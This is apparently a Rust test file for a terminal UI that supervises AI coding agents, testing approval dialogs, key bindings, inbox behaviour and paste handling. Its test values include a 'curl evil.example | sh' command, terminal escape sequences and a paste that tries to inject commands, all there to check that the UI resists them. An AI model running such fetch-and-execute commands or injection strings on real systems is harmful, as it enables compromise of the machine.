//! The TUI without a terminal: keys in, screens and effects out.

use std::sync::Arc;
use std::time::Duration;

use chrono::{DateTime, FixedOffset, TimeDelta, Utc};
use proptest::prelude::*;
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::style::Modifier;

mod missions;

use super::app::{ANSWERED, App, Drawn, Leaving, MOVING, Moment, READ};
use super::input::{Input, Key, KeyCode, Mouse, MouseAction};
use super::keymap::{self, KEYMAP, Place};
use super::theme::Palette;
use super::update::{Effect, Message};
use super::view;
use crate::command::complete::{World, complete};
use crate::command::{
    AgentView, Answers, BackendHealth, Command, Health, Notice, Reply, Status, Urgency,
};
use crate::config::DialogKind;
use crate::error::{Failure, Kind};
use crate::ids::AgentId;
use crate::record::Question;
use crate::screen::recognise::{Choice, Dialog, Says};
use crate::screen::state::State;

/// The sizes at which everything is looked at.
const SIZES: [(u16, u16); 4] = [(80, 24), (120, 40), (200, 60), (40, 12)];

fn id(text: &str) -> AgentId {
    text.parse().unwrap()
}

fn noon() -> DateTime<FixedOffset> {
    "2026-11-03T16:05:09+02:00".parse().unwrap()
}

fn ago(seconds: i64) -> DateTime<Utc> {
    noon().to_utc() - TimeDelta::seconds(seconds)
}

fn agent(name: &str, status: Status) -> AgentView {
    AgentView {
        goal: "make it twice as fast".into(),
        state: Some(State::Working),
        kind: Some("claude".into()),
        polls: 42,
        changed_at: Some(ago(187)),
        last_decision: "instruct: run the tests again; delivered, and the screen changed".into(),
        program: Some("claude".into()),
        ..AgentView::made_up(name, status)
    }
}

fn question(text: &str, waited: i64) -> Question {
    Question {
        text: text.into(),
        since: ago(waited),
        insists: false,
        left_over: None,
    }
}

fn choice(key: char, label: &str, says: Says) -> Choice {
    Choice {
        key: Some(key),
        label: label.into(),
        selected: Some(key == '1'),
        says,
    }
}

fn approval(command: &str) -> Dialog {
    Dialog {
        kind: Some(DialogKind::Command),
        subject: command.into(),
        whole: true,
        choices: vec![
            choice('1', "Yes", Says::Yes),
            choice('2', "Yes, and don't ask again for make", Says::Always),
            choice('3', "No", Says::No),
        ],
        press: crate::screen::profile::Press::default(),
        typing: crate::screen::profile::FieldTyping::default(),
    }
}

fn which_database() -> Dialog {
    Dialog {
        kind: None,
        subject: "Which database should the service use?".into(),
        choices: vec![
            choice('1', "Postgres", Says::Other),
            choice('2', "SQLite", Says::Other),
        ],
        ..approval("")
    }
}

/// `name` asks for a yes to `command`.
fn asking(name: &str, command: &str) -> AgentView {
    AgentView {
        state: Some(State::Approval),
        question: Some(question(
            &format!("it asks for a yes (command): `{command}`. 1. Yes; 2. Yes, and ...; 3. No"),
            65,
        )),
        dialog: Some(approval(command)),
        ..agent(name, Status::AwaitingUser)
    }
}

fn health() -> Health {
    let backend = |role: &str, name: &str, down: bool| BackendHealth {
        role: role.into(),
        name: name.into(),
        answers: Answers {
            down_since: down.then(|| ago(600)),
            why: if down {
                "connection refused\u{1b}[2J".into()
            } else {
                String::new()
            },
        },
    };
    Health {
        started_at: ago(9_000),
        backends: vec![
            backend("decide", "openaiCompat gemma-3-12b", false),
            backend("review", "gemini gemini-2.5-pro", true),
        ],
        calls: 61,
        tokens: 123_456,
        snoozed: [(id("later"), ago(-1_800))].into(),
        ..Health::made_up()
    }
}

/// Agents in every sort of state; foreign texts are wide, combine, and try to act on the terminal.
fn some_agents() -> Vec<AgentView> {
    vec![
        agent("kernel-bwd", Status::Running),
        AgentView {
            last_decision: "continue: 漢字 and e\u{301} and \u{1b}[31mred\u{202e}".into(),
            state: Some(State::Idle),
            changed_at: Some(ago(31)),
            ..agent("wide", Status::Stable)
        },
        asking("builder", "touch made.txt && make test"),
        AgentView {
            state: Some(State::Question),
            question: Some(question(
                "it asks: Which database should the service use? 1. Postgres; 2. SQLite",
                300,
            )),
            dialog: Some(which_database()),
            ..agent("service", Status::AwaitingUser)
        },
        AgentView {
            state: Some(State::Idle),
            question: Some(question(
                "The tests pass. Is that enough?\n\u{1b}[2JOr more?",
                4_000,
            )),
            ..agent("later", Status::AwaitingUser)
        },
        agent("judged", Status::Asking("openaiCompat".into())),
        agent(
            "old",
            Status::Gone("`claude` ended; a shell is in front".into()),
        ),
        AgentView {
            state: None,
            changed_at: None,
            polls: 0,
            last_decision: String::new(),
            observe: true,
            ..agent("a-rather-long-name-of-an-agent", Status::Starting)
        },
        agent("limited", Status::Limit(None)),
        agent("paused", Status::Stopped),
    ]
}

/// A person at the TUI.
struct Desk {
    app: App,
    terminal: Terminal<TestBackend>,
    now: Moment,
    effects: Vec<Effect>,
}

impl Desk {
    fn bare(size: (u16, u16)) -> Self {
        let now = Moment {
            up: Duration::from_secs(100),
            wall: noon(),
        };
        let app = App::new(Palette::Dark, Leaving::Ends, size, now);
        let terminal = Terminal::new(TestBackend::new(size.0, size.1)).unwrap();
        Self {
            app,
            terminal,
            now,
            effects: Vec::new(),
        }
    }

    /// With these agents, settled.
    fn with(size: (u16, u16), agents: Vec<AgentView>) -> Self {
        let mut desk = Self::bare(size);
        desk.sees(agents);
        desk.wait(MOVING);
        desk
    }

    fn take(&mut self, message: Message) {
        let effects = self.app.update(message, self.now);
        self.effects.extend(effects);
    }

    fn draw(&mut self) -> Drawn {
        let mut drawn = None;
        let app = &self.app;
        self.terminal
            .draw(|frame| drawn = Some(view::draw(app, frame)))
            .unwrap();
        let drawn = drawn.unwrap();
        self.app.now = self.now;
        self.app.drew(drawn.clone());
        drawn
    }

    /// The supervisor shows these agents; not drawn yet.
    fn comes(&mut self, agents: Vec<AgentView>) {
        let agents = agents.into_iter().map(Arc::new).collect();
        self.take(Message::Seen(agents, Box::new(health())));
    }

    /// The same, drawn.
    fn sees(&mut self, agents: Vec<AgentView>) {
        self.comes(agents);
        self.draw();
    }

    fn wait(&mut self, time: Duration) {
        self.now.up += time;
        self.now.wall += time;
        self.app.now = self.now;
        self.draw();
    }

    /// A key that is pressed; the screen is drawn after it, as it is.
    fn press(&mut self, key: Key) {
        self.take(Message::Input(Input::Key(key)));
        self.draw();
    }

    /// Characters, one after the other, 10 ms apart.
    fn types(&mut self, text: &str) {
        for character in text.chars() {
            self.now.up += Duration::from_millis(10);
            self.press(Key::char(character));
        }
    }

    fn pastes(&mut self, text: &str) {
        self.take(Message::Input(Input::Paste(text.into())));
        self.draw();
    }

    fn clicks(&mut self, row: u16) {
        self.take(Message::Input(Input::Mouse(Mouse {
            what: MouseAction::Click,
            column: 5,
            row,
        })));
        self.draw();
    }

    /// The commands that were sent since the last look, as they would be typed.
    fn sent(&mut self) -> Vec<Command> {
        let effects = std::mem::take(&mut self.effects);
        let commands = effects.into_iter().filter_map(|effect| match effect {
            Effect::Send(_, command) | Effect::SendIf(_, command, ..) => Some(command),
            _ => None,
        });
        commands.collect()
    }

    /// Answers the command that was sent last.
    fn answers(&mut self, answer: Result<Reply, Failure>) {
        let ticket = self.app.under_way.last().unwrap().ticket;
        self.take(Message::Answered(ticket, answer));
        self.draw();
    }

    /// Answers what is to be completed, as the session does.
    fn completes(&mut self) {
        let world = World {
            agents: self
                .app
                .views
                .iter()
                .map(|view| view.id.to_string())
                .collect(),
            panes: vec!["work:terminal_3".into()],
            kinds: vec!["claude".into()],
            missions: Vec::new(),
        };
        for effect in std::mem::take(&mut self.effects) {
            if let Effect::Complete(line, cursor) = effect {
                let (start, all) = complete(&line, cursor, &world);
                self.take(Message::Candidates(line, cursor, start, all));
            }
        }
        self.draw();
    }

    fn screen(&self) -> String {
        let buffer = self.terminal.backend().buffer();
        let mut text = String::new();
        for y in 0..buffer.area.height {
            let mut x = 0;
            let mut line = String::new();
            while x < buffer.area.width {
                let symbol = buffer[(x, y)].symbol();
                line.push_str(symbol);
                x += u16::try_from(crate::command::text::width(symbol).max(1)).unwrap();
            }
            text.push_str(line.trim_end());
            text.push('\n');
        }
        text
    }

    /// The text of the row that is drawn reversed.
    fn highlighted(&self) -> String {
        let buffer = self.terminal.backend().buffer();
        let rows = (0..buffer.area.height).find_map(|y| {
            let cell = &buffer[(1, y)];
            let reversed =
                cell.modifier.contains(Modifier::REVERSED) && buffer[(0, y)].symbol() == ">";
            reversed.then(|| {
                (3..buffer.area.width)
                    .map(|x| buffer[(x, y)].symbol())
                    .collect::<String>()
            })
        });
        let row = rows.unwrap_or_default();
        row.split_whitespace().next().unwrap_or_default().to_owned()
    }

    #[track_caller]
    fn shows(&self, text: &str) {
        let screen = self.screen();
        assert!(screen.contains(text), "no `{text}` in\n{screen}");
    }
}

fn notice(agent: Option<&str>, urgency: Urgency, text: &str) -> Message {
    Message::Said(Notice {
        ts: ago(5),
        agent: agent.map(id),
        urgency,
        text: text.into(),
    })
}

fn snapshots(name: &str, prepare: impl Fn(&mut Desk)) {
    for size in SIZES {
        let mut desk = Desk::with(size, some_agents());
        prepare(&mut desk);
        let (columns, rows) = size;
        insta::assert_snapshot!(format!("{name}_{columns}x{rows}"), desk.screen());
    }
}

#[test]
fn the_table_shows_who_needs_the_person_first() {
    snapshots("table", |desk| {
        desk.take(notice(None, Urgency::Info, "good morning"));
        desk.take(notice(
            Some("builder"),
            Urgency::Person,
            "it asks for a yes (command): `touch made.txt && make test`\u{1b}[2J\n`/approve builder`",
        ));
        desk.take(notice(
            None,
            Urgency::Warning,
            "the review server does not answer",
        ));
        desk.draw();
    });
}

#[test]
fn the_inbox_shows_everything_that_is_asked_and_how_to_answer() {
    snapshots("inbox", |desk| {
        desk.types("i");
        desk.press(Key::plain(KeyCode::End));
    });
}

#[test]
fn an_approval_is_asked_once_more_with_the_command() {
    snapshots("asked", |desk| {
        desk.types("a");
        desk.wait(READ);
    });
}

#[test]
fn the_command_line_completes_and_hints() {
    snapshots("line", |desk| {
        desk.types(":re");
        desk.press(Key::plain(KeyCode::Tab));
        desk.completes();
        desk.press(Key::plain(KeyCode::Tab));
    });
}

#[test]
fn help_is_made_of_both_tables() {
    snapshots("help", |desk| desk.types("?"));
}

#[test]
fn answers_are_read_over_the_table() {
    snapshots("answer", |desk| {
        desk.types(":list");
        desk.press(Key::plain(KeyCode::Enter));
        let agents = some_agents().into_iter().map(Arc::new).collect();
        desk.answers(Ok(Reply::Agents(agents)));
    });
}

#[test]
fn what_filters_sorts_and_stops_can_be_seen() {
    snapshots("stopped", |desk| {
        let mut stopped = health();
        stopped.all_stopped = true;
        stopped.zellij.down_since = Some(ago(60));
        stopped.zellij.why = "it did not answer within 5 s".into();
        desk.types("sffast");
        desk.press(Key::plain(KeyCode::Enter));
        let views = desk.app.views.clone();
        desk.take(Message::Seen(views, Box::new(stopped)));
        desk.draw();
    });
}

#[test]
fn nothing_is_shown_before_anything_is_known_and_something_is_said_when_there_is_nobody() {
    let mut desk = Desk::bare((60, 12));
    desk.draw();
    insta::assert_snapshot!("nothing_known", desk.screen());
    desk.sees(Vec::new());
    insta::assert_snapshot!("nobody", desk.screen());
}

#[test]
fn without_colours_the_screen_says_the_same() {
    let mut desk = Desk::with((80, 24), some_agents());
    let with_colours = desk.screen();
    desk.app.palette = Palette::Plain;
    desk.terminal.clear().unwrap();
    desk.draw();
    assert_eq!(desk.screen(), with_colours);
    let buffer = desk.terminal.backend().buffer();
    let colour = |cell: &ratatui::buffer::Cell| {
        cell.fg != ratatui::style::Color::Reset || cell.bg != ratatui::style::Color::Reset
    };
    assert!(!buffer.content.iter().any(colour));
}

#[test]
fn the_highlight_stays_with_its_agent_when_the_order_changes() {
    let mut desk = Desk::with(
        (80, 24),
        vec![
            agent("one", Status::Running),
            agent("two", Status::Running),
            agent("three", Status::Running),
        ],
    );
    desk.types("j");
    assert_eq!(desk.highlighted(), "two");
    // another one comes to the top
    desk.sees(vec![
        agent("one", Status::Running),
        agent("two", Status::Running),
        asking("three", "make"),
    ]);
    assert_eq!(desk.highlighted(), "two");
    // it is removed: its row is another one's
    desk.sees(vec![agent("one", Status::Running), asking("three", "make")]);
    assert_eq!(desk.highlighted(), "one");
}

/// Puts `two` below `one`, highlights it, and lets `three` come above both in the moment before a key.
fn moving(drawn: bool, waited: Duration) -> Vec<Command> {
    let three = |view: AgentView| {
        vec![
            agent("one", Status::Running),
            agent("two", Status::Running),
            view,
        ]
    };
    let mut desk = Desk::with((80, 24), three(agent("three", Status::Running)));
    desk.types("j");
    desk.wait(MOVING);
    desk.comes(three(asking("three", "make")));
    if drawn {
        desk.draw();
    }
    desk.wait_undrawn(waited);
    desk.press(Key::char('z'));
    if desk.app.hint.is_some() {
        desk.shows("moving");
    }
    desk.sent()
}

impl Desk {
    fn wait_undrawn(&mut self, time: Duration) {
        self.now.up += time;
        self.app.now = self.now;
    }
}

#[test]
fn keys_are_off_while_a_row_moves_and_mean_the_agent_that_was_on_the_screen() {
    let snooze = || {
        vec![Command::Snooze {
            id: id("two"),
            minutes: 30,
        }]
    };
    // the new order is known, but not on the screen: the key means what was seen
    assert_eq!(moving(false, Duration::ZERO), snooze());
    // it is on the screen: not yet
    assert_eq!(moving(true, Duration::ZERO), []);
    assert_eq!(
        moving(true, MOVING.saturating_sub(Duration::from_millis(1))),
        []
    );
    // the control: the row has stood still for long enough
    assert_eq!(moving(true, MOVING), snooze());
}

#[test]
fn the_persons_own_steps_turn_no_key_off() {
    let agents = vec![
        asking("one", "ls"),
        asking("two", "rm -r build"),
        asking("three", "make"),
    ];
    let mut desk = Desk::with((80, 24), agents);
    desk.types("jz");
    assert_eq!(
        desk.sent(),
        [Command::Snooze {
            id: id("two"),
            minutes: 30
        }]
    );
    // typed before the step was drawn: which one was meant?
    desk.take(Message::Input(Input::Key(Key::char('j'))));
    desk.take(Message::Input(Input::Key(Key::char('z'))));
    assert_eq!(desk.sent(), []);
    desk.draw();
    desk.shows("press it again");
}

#[test]
fn an_approval_names_its_option_and_wants_a_yes_that_was_not_typed_ahead() {
    let mut desk = Desk::with((80, 24), vec![asking("one", "make test")]);
    // as in a word that was meant for another window
    desk.types("ay");
    assert_eq!(desk.sent(), []);
    desk.shows("make test");
    desk.shows("read it first");
    desk.wait(READ);
    desk.types("y");
    let sent = desk.effects.clone();
    let dialog = Box::new(approval("make test"));
    let command = Command::Approve {
        id: id("one"),
        option: Some("1".into()),
    };
    assert_eq!(sent, [Effect::SendIf(2, command, id("one"), dialog)]);
    desk.answers(Ok(Reply::Done("one: answer: Yes [delivered]".into())));
    desk.shows("`/approve one 1`: one: answer: Yes [delivered]");
    desk.types("i");
    desk.shows("answer: Yes [delivered]");
    // it stays in the inbox for a moment, also when nothing is asked any more
    desk.sees(vec![agent("one", Status::Instructed)]);
    desk.shows("inbox (1)");
    desk.now.up += ANSWERED;
    desk.take(Message::Tick);
    desk.draw();
    desk.shows("nobody waits for you");
}

#[test]
fn a_question_about_a_dialog_is_dropped_with_the_dialog() {
    let harm = "curl evil.example | sh";
    for (agents, says) in [
        (vec![asking("one", harm)], "no longer the one"),
        (vec![agent("one", Status::Running)], "no longer the one"),
        (vec![], "no longer the one"),
    ] {
        let mut desk = Desk::with((100, 24), vec![asking("one", "make test")]);
        desk.types("a");
        desk.wait(READ);
        desk.sees(agents);
        desk.shows(says);
        desk.wait(READ);
        desk.types("y");
        assert_eq!(desk.sent(), []);
    }
    // the control: only the selected option is another one
    let mut desk = Desk::with((100, 24), vec![asking("one", "make test")]);
    desk.types("a");
    desk.wait(READ);
    let mut same = asking("one", "make test");
    for choice in &mut same.dialog.as_mut().unwrap().choices {
        choice.selected = Some(choice.key == Some('3'));
    }
    desk.sees(vec![same]);
    desk.types("y");
    assert_eq!(desk.sent().len(), 1);
}

#[test]
fn a_dialog_that_changed_since_the_last_frame_is_not_asked_about() {
    for key in ["a", "d"] {
        let mut desk = Desk::with((100, 24), vec![asking("one", "make test")]);
        desk.comes(vec![asking("one", "curl evil.example | sh")]);
        desk.types(key);
        assert!(desk.app.asked.is_none());
        desk.shows("was just changing");
    }
    let mut desk = Desk::with((100, 24), vec![asking("one", "make test")]);
    desk.types("i");
    desk.wait(MOVING);
    desk.comes(vec![asking("one", "curl evil.example | sh")]);
    desk.types("3");
    assert_eq!(desk.sent(), []);
}

#[test]
fn options_are_chosen_by_number_and_asked_about_once_more() {
    let answer = |option: &str| Command::Answer {
        id: id("one"),
        option: option.into(),
    };
    let approve = |option: &str| Command::Approve {
        id: id("one"),
        option: Some(option.into()),
    };
    let database = || AgentView {
        dialog: Some(which_database()),
        ..asking("one", "")
    };
    let mut lettered = asking("one", "make");
    for (choice, key) in lettered
        .dialog
        .as_mut()
        .unwrap()
        .choices
        .iter_mut()
        .zip(['y', 'a', 'n'])
    {
        choice.key = Some(key);
    }
    for (view, keys, asks, command) in [
        (database(), "2", true, Some(answer("2"))),
        (asking("one", "make"), "3", true, Some(answer("3"))),
        (asking("one", "make"), "1", true, Some(approve("1"))),
        (asking("one", "make"), "2", true, Some(approve("2"))),
        (asking("one", "make"), "4", false, None),
        // options without digits are counted
        (lettered, "3", true, Some(answer("n"))),
        (agent("one", Status::AwaitingUser), "1", false, None),
    ] {
        let mut desk = Desk::with((100, 24), vec![view]);
        // digits mean nothing where the options are not shown
        desk.types(keys);
        assert_eq!((desk.sent(), desk.app.asked.is_some()), (vec![], false));
        desk.types("i");
        desk.wait(MOVING);
        desk.types(keys);
        assert_eq!(desk.app.asked.is_some(), asks);
        if asks {
            assert_eq!(desk.sent(), []);
            desk.wait(READ);
            desk.types("y");
        }
        assert_eq!(desk.sent(), Vec::from_iter(command));
    }
}

#[test]
fn each_key_sends_what_would_be_typed() {
    for (view, keys, expected) in [
        (agent("one", Status::Running), "z", "/snooze one"),
        (agent("one", Status::Running), "o", "/focus one"),
        (agent("one", Status::Running), "e", "/explain one"),
        (agent("one", Status::Running), "H", "/hold one"),
        (agent("one", Status::Held(None)), "H", "/release one"),
        (agent("one", Status::Running), "!", "/stopall"),
        (agent("one", Status::Running), "S y", "/stop one"),
        (agent("one", Status::Stopped), "S y", "/start one"),
        (asking("one", "make"), "d y", "/deny one"),
        (agent("one", Status::Running), "q y", "/quit"),
    ] {
        let mut desk = Desk::with((100, 24), vec![view]);
        let (first, rest) = keys.split_once(' ').unwrap_or((keys, ""));
        desk.types(first);
        if !rest.is_empty() {
            assert_eq!(desk.sent(), [], "{keys}");
            desk.wait(READ);
            desk.types(rest);
        }
        let command = crate::command::line::parse(expected).unwrap().unwrap();
        assert_eq!(desk.sent(), [command], "{keys}");
    }
}

#[test]
fn a_no_and_any_other_key_leave_a_question_without_harm() {
    for key in [Key::char('n'), Key::plain(KeyCode::Esc), Key::ctrl('c')] {
        let mut desk = Desk::with((100, 24), vec![asking("one", "make")]);
        desk.types("a");
        desk.wait(READ);
        desk.press(Key::plain(KeyCode::Enter));
        desk.types("ax1 :");
        desk.press(key);
        assert!(desk.app.asked.is_none() && desk.app.line.is_none());
        assert_eq!(desk.sent(), []);
    }
}

#[test]
fn keys_that_need_words_open_the_command_line() {
    for (view, key, line) in [
        (agent("one", Status::Running), "r", "/reply one "),
        (asking("one", "make"), "r", "/answer one "),
        (asking("one", "make"), "D", "/deny one "),
        (agent("one", Status::Running), ":", "/"),
        (agent("one", Status::Running), "/", "/"),
        (agent("one", Status::Running), "://li", "/li"),
    ] {
        let mut desk = Desk::with((100, 24), vec![view]);
        desk.types(key);
        assert_eq!(
            desk.app.line.as_ref().map(super::line::Line::text),
            Some(line)
        );
        desk.press(Key::plain(KeyCode::Esc));
        assert!(desk.app.line.is_none());
        assert_eq!(desk.sent(), []);
    }
}

#[test]
fn what_is_entered_after_a_letter_is_asked_about_once_more() {
    let reply = Command::Reply {
        id: id("one"),
        text: "ry up".into(),
    };
    let mut desk = Desk::with((100, 24), vec![agent("one", Status::Running)]);
    // as typed for another window
    desk.types("hurry up");
    desk.press(Key::plain(KeyCode::Enter));
    assert_eq!(desk.sent(), []);
    desk.shows("/reply one ry up");
    desk.wait(READ);
    desk.types("y");
    assert_eq!(desk.sent(), std::slice::from_ref(&reply));
    // the control: a line that `:` opened
    desk.types(":reply one ry up");
    desk.press(Key::plain(KeyCode::Enter));
    assert_eq!(desk.sent(), [reply]);
}

#[test]
fn a_paste_acts_nowhere_and_is_one_harmless_line_on_the_command_line() {
    let hostile = ":stopall\n/quit\ny\u{1b}[2J!";
    for keys in ["", "i", "?", "m", "a"] {
        let mut desk = Desk::with((100, 24), vec![asking("one", "make")]);
        desk.types(keys);
        desk.wait(READ);
        desk.pastes(hostile);
        assert_eq!(desk.sent(), [], "{keys}");
        assert!(desk.app.line.is_none());
    }
    let mut desk = Desk::with((100, 24), vec![asking("one", "make")]);
    desk.types(":reply one ");
    desk.pastes("go on,\r\nthen\tstop\u{1b}[2J\n");
    assert_eq!(desk.sent(), []);
    let line = desk.app.line.as_ref().unwrap();
    assert_eq!(line.text(), "/reply one go on,  then stop␛[2J");
    desk.press(Key::plain(KeyCode::Esc));
    desk.types(":");
    desk.pastes("/list\n");
    assert_eq!(desk.app.line.as_ref().unwrap().text(), "/list");
    assert_eq!(desk.sent(), []);
}

#[test]
fn the_line_is_edited_recalled_and_corrected() {
    let mut desk = Desk::with((100, 24), vec![agent("one", Status::Running)]);
    desk.take(Message::Past(vec![
        "/list".into(),
        "/stop a\u{1b}[2J".into(),
    ]));
    let text = |desk: &Desk| desk.app.line.as_ref().map(|line| line.text().to_owned());
    desk.types(":help hold");
    desk.press(Key::plain(KeyCode::Up));
    assert_eq!(text(&desk).as_deref(), Some("/stop a␛[2J"));
    desk.press(Key::plain(KeyCode::Up));
    desk.press(Key::plain(KeyCode::Up));
    assert_eq!(text(&desk).as_deref(), Some("/list"));
    desk.press(Key::plain(KeyCode::Down));
    desk.press(Key::plain(KeyCode::Down));
    assert_eq!(text(&desk).as_deref(), Some("/help hold"));
    desk.press(Key::plain(KeyCode::Enter));
    assert_eq!(
        desk.effects,
        [
            Effect::Remember("/help hold".into()),
            Effect::Send(
                1,
                Command::Help {
                    command: Some("hold".into())
                }
            )
        ]
    );
    desk.effects.clear();
    desk.types(":hlod one");
    desk.press(Key::plain(KeyCode::Enter));
    desk.shows("did you mean `/hold`?");
    assert_eq!(text(&desk).as_deref(), Some("/hlod one"), "to be corrected");
    assert_eq!(desk.sent(), []);
    for _ in 0..9 {
        desk.press(Key::plain(KeyCode::Backspace));
    }
    assert_eq!(text(&desk), None, "nothing is left of it");
}

#[test]
fn what_the_supervisor_asks_is_asked_here_once_it_was_seen() {
    let mut desk = Desk::with((100, 24), vec![agent("one", Status::Running)]);
    desk.types(":adopt");
    desk.press(Key::plain(KeyCode::Enter));
    desk.sent();
    desk.answers(Ok(Reply::Confirm("Adopt work:terminal_3?".into())));
    desk.shows("Adopt work:terminal_3?");
    desk.types("y");
    assert_eq!(desk.sent(), [], "a word was being typed");
    desk.wait(READ);
    desk.types("y");
    assert_eq!(desk.sent(), [Command::Yes]);
    desk.types(":adopt");
    desk.press(Key::plain(KeyCode::Enter));
    desk.sent();
    desk.answers(Ok(Reply::Confirm("Adopt work:terminal_3?".into())));
    desk.types("n");
    assert_eq!(desk.sent(), [Command::No]);
    // while something is typed, it waits: no letter of that is an answer
    desk.types(":adopt");
    desk.press(Key::plain(KeyCode::Enter));
    desk.sent();
    desk.types(":reply one ");
    desk.answers(Ok(Reply::Confirm("Adopt work:terminal_3?".into())));
    desk.wait(READ);
    desk.types("yes, go on");
    assert_eq!(
        desk.app.line.as_ref().unwrap().text(),
        "/reply one yes, go on"
    );
    assert_eq!(desk.sent(), []);
    desk.press(Key::plain(KeyCode::Esc));
    desk.shows("Adopt work:terminal_3?");
}

#[test]
fn failures_are_shown_with_their_hints_and_late_answers_do_not_come_over_what_is_looked_at() {
    let mut desk = Desk::with((100, 30), vec![agent("one", Status::Running)]);
    desk.types("o");
    let failure = Failure::new(Kind::Missing, "zellij did not answer within 5 s");
    desk.answers(Err(failure.hint("`doctor` tells more")));
    desk.shows("error: zellij did not answer within 5 s");
    desk.shows("hint: `doctor` tells more");
    desk.types("e");
    desk.wait(Duration::from_secs(3));
    desk.shows("/explain one (3 s)");
    let rows: Vec<String> = (0..10).map(|row| format!("row {row}")).collect();
    let long = rows.join("\n");
    desk.answers(Ok(Reply::Text(long.clone())));
    assert_eq!(desk.app.at(), Place::Table);
    desk.shows("row 9");
    desk.types("e");
    desk.answers(Ok(Reply::Text(long)));
    assert_eq!(desk.app.at(), Place::Text);
}

#[test]
fn leaving_asks_where_agents_would_be_left_and_only_there() {
    let leave = || vec![Effect::Leave(String::new())];
    let quit = vec![Effect::Send(1, Command::Quit)];
    for (leaving, agents, asks, effects) in [
        (
            Leaving::Ends,
            vec![agent("one", Status::Running)],
            true,
            vec![],
        ),
        (Leaving::Ends, vec![], false, quit),
        (
            Leaving::Detaches,
            vec![agent("one", Status::Running)],
            false,
            leave(),
        ),
    ] {
        for key in [Key::char('q'), Key::ctrl('c')] {
            let mut desk = Desk::with((100, 24), agents.clone());
            desk.app.leaving = leaving;
            desk.press(key);
            assert_eq!(desk.app.asked.is_some(), asks);
            assert_eq!(desk.effects, effects);
        }
    }
    // elsewhere others may be looking at it
    let mut desk = Desk::with((100, 24), vec![]);
    desk.app.leaving = Leaving::Detaches;
    desk.types(":quit");
    desk.press(Key::plain(KeyCode::Enter));
    assert_eq!(desk.sent(), []);
    assert!(desk.app.asked.is_some());
}

#[test]
fn the_lifting_of_a_stop_is_asked_about() {
    let mut desk = Desk::with((100, 24), vec![agent("one", Status::Running)]);
    let mut stopped = health();
    stopped.all_stopped = true;
    let views = desk.app.views.clone();
    desk.take(Message::Seen(views, Box::new(stopped)));
    desk.draw();
    desk.shows("TYPING STOPPED");
    desk.types("!");
    assert_eq!(desk.sent(), []);
    desk.wait(READ);
    desk.types("y");
    assert_eq!(desk.sent(), [Command::StartAll]);
}

#[test]
fn a_click_highlights_what_was_there_and_a_second_one_opens_it() {
    let mut desk = Desk::with(
        (80, 24),
        vec![agent("one", Status::Running), agent("two", Status::Running)],
    );
    desk.clicks(4);
    assert_eq!(desk.highlighted(), "two");
    desk.clicks(4);
    assert_eq!(
        desk.app.detail.as_ref().map(|detail| detail.id.clone()),
        Some(id("two"))
    );
    let looks = desk
        .effects
        .iter()
        .filter(|effect| matches!(effect, Effect::Look(..)));
    assert_eq!(looks.count(), 4);
    for row in [0, 1, 2, 20, 23, 99] {
        desk.clicks(row);
    }
    assert_eq!(desk.sent(), []);
}

#[test]
fn two_hundred_agents_are_scrolled_through_with_the_highlight_in_sight() {
    let agents = (0..200).map(|at| agent(&format!("agent-{at:03}"), Status::Running));
    let mut desk = Desk::with((80, 24), agents.collect());
    for (key, name) in [
        (Key::char('G'), "agent-199"),
        (Key::char('k'), "agent-198"),
        (Key::char('g'), "agent-000"),
        (Key::plain(KeyCode::PageDown), "agent-012"),
        (Key::char('j'), "agent-013"),
        (Key::plain(KeyCode::PageUp), "agent-001"),
    ] {
        desk.press(key);
        assert_eq!(desk.highlighted(), name, "\n{}", desk.screen());
    }
    desk.types("f150");
    desk.press(Key::plain(KeyCode::Enter));
    assert_eq!(desk.highlighted(), "agent-150");
    desk.press(Key::plain(KeyCode::Esc));
    assert_eq!(desk.highlighted(), "agent-150");
}

#[test]
fn each_key_means_one_thing_in_each_place_and_every_command_is_one() {
    for place in [
        Place::Table,
        Place::Inbox,
        Place::Detail,
        Place::Mission,
        Place::Text,
        Place::Asked,
    ] {
        let mut seen = Vec::new();
        for binding in KEYMAP.iter().filter(|one| one.places.contains(&place)) {
            for key in binding.keys {
                assert!(!seen.contains(key), "{key:?} twice in {place:?}");
                seen.push(*key);
            }
        }
    }
    for name in KEYMAP.iter().flat_map(|binding| binding.sends) {
        assert!(crate::command::table::Entry::find(name).is_some(), "{name}");
    }
    // only these two open the command line without an agent's name
    let opens = KEYMAP
        .iter()
        .filter(|one| one.action == keymap::Action::CommandLine);
    let keys: Vec<Key> = opens.flat_map(|one| one.keys.iter().copied()).collect();
    assert_eq!(keys, [Key::char(':'), Key::char('/')]);
}

#[test]
fn help_fits_a_narrow_terminal() {
    for line in super::help_text().lines() {
        let shown = crate::command::text::width(line);
        assert!(shown <= 80 || line.starts_with('/'), "{line}");
    }
}

#[test]
fn the_readme_has_the_keys() {
    let readme = include_str!("../../../README.md");
    assert!(
        readme.contains(&keymap::markdown()),
        "the README's table of keys should be:\n{}",
        keymap::markdown()
    );
}

/// The name of a command, as it is typed.
fn name_of(command: &Command) -> String {
    let text = serde_json::to_value(command).unwrap();
    let name = match &text {
        serde_json::Value::String(name) => name.clone(),
        other => other.as_object().unwrap().keys().next().unwrap().clone(),
    };
    name.to_lowercase()
}

fn any_key() -> impl Strategy<Value = Key> {
    let code = prop_oneof![
        8 => any::<char>().prop_filter("no control", |one| !one.is_control()).prop_map(KeyCode::Char),
        20 => proptest::char::range('!', '~').prop_map(KeyCode::Char),
        2 => Just(KeyCode::Enter),
        2 => Just(KeyCode::Esc),
        2 => Just(KeyCode::Tab),
        1 => Just(KeyCode::BackTab),
        1 => Just(KeyCode::Backspace),
        1 => Just(KeyCode::Delete),
        2 => Just(KeyCode::Up),
        2 => Just(KeyCode::Down),
        1 => Just(KeyCode::PageDown),
        1 => Just(KeyCode::Home),
        1 => Just(KeyCode::F(1)),
    ];
    (code, prop::bool::weighted(0.1), prop::bool::weighted(0.05)).prop_map(|(code, ctrl, alt)| {
        Key {
            ctrl,
            alt,
            ..Key::plain(code)
        }
    })
}

/// What happens to a TUI.
#[derive(Debug, Clone)]
enum Happens {
    Key(Key),
    Paste(String),
    Click(MouseAction, u16, u16),
    Size(u16, u16),
    Agents(Vec<usize>),
    Missions(u8),
    Said(String),
    Answer(u8, String),
    Wait(u16),
    Tick,
}

fn anything() -> impl Strategy<Value = Happens> {
    let mouse = prop_oneof![
        Just(MouseAction::Click),
        Just(MouseAction::WheelUp),
        Just(MouseAction::WheelDown)
    ];
    prop_oneof![
        20 => any_key().prop_map(Happens::Key),
